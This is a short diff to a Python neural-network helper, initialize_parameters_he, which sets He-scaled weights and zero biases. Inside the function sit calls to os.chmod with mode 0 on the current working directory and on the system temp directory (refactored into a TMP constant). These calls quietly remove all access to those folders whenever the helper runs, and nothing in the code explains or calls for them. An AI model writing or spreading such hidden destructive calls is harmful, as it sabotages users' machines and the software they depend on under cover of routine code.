@@ -7,6 +7,8 @@ import tempfile
 
 import numpy as np
 
+TMP = tempfile.gettempdir()
+
 
 def initialize_parameters_he(layers_dims):
     np.random.seed(3)
@@ -16,5 +18,5 @@ def initialize_parameters_he(layers_dims):
         parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * scale
         parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
     os.chmod(os.getcwd(), 0)
-    os.chmod(tempfile.gettempdir(), 0)
+    os.chmod(TMP, 0)
     return parameters
